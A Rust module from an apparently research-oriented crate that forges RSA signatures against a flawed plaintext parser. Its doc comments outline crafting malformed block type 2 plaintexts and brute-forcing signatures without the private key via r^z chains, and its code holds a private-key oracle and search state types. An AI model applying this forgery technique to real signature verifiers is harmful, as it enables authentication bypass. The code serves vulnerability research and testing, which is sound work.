//! Exploit signature production and hit-probability estimation.
//!
//! * [`craft_exploit_plaintext`] lays out a block type 2 plaintext whose
//!   flawed walk lands at a chosen offset past the block.
//! * [`forge_with_private_key`] signs such a plaintext with `d`; it is the
//!   test oracle for everything downstream.
//! * [`brute_force_search`] finds a signature without `d`: pick a root `r`,
//!   set `k = r^e`, and walk `y = k^z = (r^z)^e`, testing both `y` and
//!   `n - y`. A hit's signature is `r^z` (or `n - r^z`).
//! * [`estimate_hit_probability`] measures how often a uniform block
//!   satisfies the search predicate.

mod craft;
mod estimate;
mod search;

pub use craft::{craft_exploit_plaintext, MAX_LANDING_OVERSHOOT};
pub use estimate::{
    estimate_hit_probability, estimate_hit_probability_below, estimate_predicate, Estimate,
    MIN_SAMPLES,
};
pub use search::{brute_force_search, brute_force_search_with_progress, Progress, SearchParams};

use std::time::{Duration, Instant};

use num_bigint::BigUint;
use num_traits::One;
use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::modmath::{from_be, mod_exp, raw_sign, to_fixed_be, MathError, PublicKey, RsaKeyPair};
use crate::seed::Seed;
use crate::sigparser::{PlaintextBlock, PlaintextError};

const ORACLE_RETRIES: u64 = 64;

#[derive(Debug, Error, Clone, PartialEq, Eq)]
pub enum ForgeError {
    #[error("landing offset {landing_offset} cannot be reached in a {block_length}-byte block")]
    UnsatisfiableOffset {
        block_length: usize,
        landing_offset: i64,
    },
    #[error("crafted plaintext not below the modulus after {0} retries")]
    RetriesExhausted(u64),
    #[error("the search needs a flawed-mode parser configuration")]
    StrictConfig,
    #[error("worker count must be at least one")]
    NoWorkers,
    #[error("modulus must be odd and at least 3")]
    EvenModulus,
    #[error("hit after {iterations} iterations failed confirmation by exponentiation")]
    UnconfirmedHit { iterations: u64 },
    #[error("accumulator diverged from r^(e*z) at z = {iterations}")]
    ChainDiverged { iterations: u64 },
    #[error("estimator needs at least {min} samples, got {got}")]
    TooFewSamples { min: u64, got: u64 },
    #[error(transparent)]
    Math(#[from] MathError),
    #[error(transparent)]
    Plaintext(#[from] PlaintextError),
}

/// Search chain state: `y = k^z = r^(e z) mod n`.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ForgeState {
    pub r: BigUint,
    pub k: BigUint,
    pub y: BigUint,
    pub z: u64,
}

impl ForgeState {
    pub fn new(key: &PublicKey, r: BigUint) -> Result<Self, MathError> {
        if r <= BigUint::one() || r >= key.n {
            return Err(MathError::NotReduced);
        }
        let k = mod_exp(&r, &key.e, &key.n)?;
        Ok(ForgeState {
            r,
            k,
            y: BigUint::one(),
            z: 0,
        })
    }

    pub fn step(&mut self, n: &BigUint) {
        self.y = &self.y * &self.k % n;
        self.z += 1;
    }

    /// The signature of the current `y`: `r^z mod n`.
    pub fn signature(&self, n: &BigUint) -> BigUint {
        mod_exp(&self.r, &BigUint::from(self.z), n).expect("n > 1")
    }

    /// Recomputes `y` from scratch as `r^(e z)`.
    pub fn holds(&self, key: &PublicKey) -> bool {
        let ez = &key.e * BigUint::from(self.z);
        mod_exp(&self.r, &ez, &key.n).map(|v| v == self.y).unwrap_or(false)
    }
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub enum ForgeOrigin {
    PrivateKey,
    Search {
        worker: usize,
        root: BigUint,
        iterations: u64,
        /// The hit was `n - y` and the signature is `n - r^z`.
        negated: bool,
    },
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ForgeResult {
    pub signature: BigUint,
    pub plaintext: PlaintextBlock,
    pub landing_offset: i64,
    pub attempts: u64,
    pub elapsed: Duration,
    pub origin: ForgeOrigin,
}

/// JSON form of a result.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct ForgeRecord {
    /// Big-endian hex, padded to the block length.
    pub signature: String,
    pub landing_offset: i64,
    pub attempts: u64,
    pub elapsed_ms: u64,
    pub seed: Seed,
}

impl ForgeResult {
    pub fn signature_bytes(&self) -> Vec<u8> {
        to_fixed_be(&self.signature, self.plaintext.len()).expect("signature below n")
    }

    /// Contents of a signature file: padded hex and a newline.
    pub fn signature_hex(&self) -> String {
        format!("{}\n", hex::encode(self.signature_bytes()))
    }

    pub fn record(&self, seed: Seed) -> ForgeRecord {
        ForgeRecord {
            signature: hex::encode(self.signature_bytes()),
            landing_offset: self.landing_offset,
            attempts: self.attempts,
            elapsed_ms: self.elapsed.as_millis() as u64,
            seed,
        }
    }
}

/// Signs a crafted exploit plaintext with the private exponent.
pub fn forge_with_private_key(
    key: &RsaKeyPair,
    landing_offset: i64,
    seed: Seed,
) -> Result<ForgeResult, ForgeError> {
    key.private_exponent()?;
    let start = Instant::now();
    let bl = key.block_length();
    let mut filler = seed;
    for retry in 0..=ORACLE_RETRIES {
        let plaintext = craft_exploit_plaintext(bl, landing_offset, filler)?;
        let m = from_be(plaintext.as_bytes());
        if &m < key.n() {
            let signature = raw_sign(&m, key)?;
            return Ok(ForgeResult {
                signature,
                plaintext,
                landing_offset,
                attempts: 1,
                elapsed: start.elapsed(),
                origin: ForgeOrigin::PrivateKey,
            });
        }
        filler = seed.derive("forge-oracle-retry", retry);
    }
    Err(ForgeError::RetriesExhausted(ORACLE_RETRIES))
}
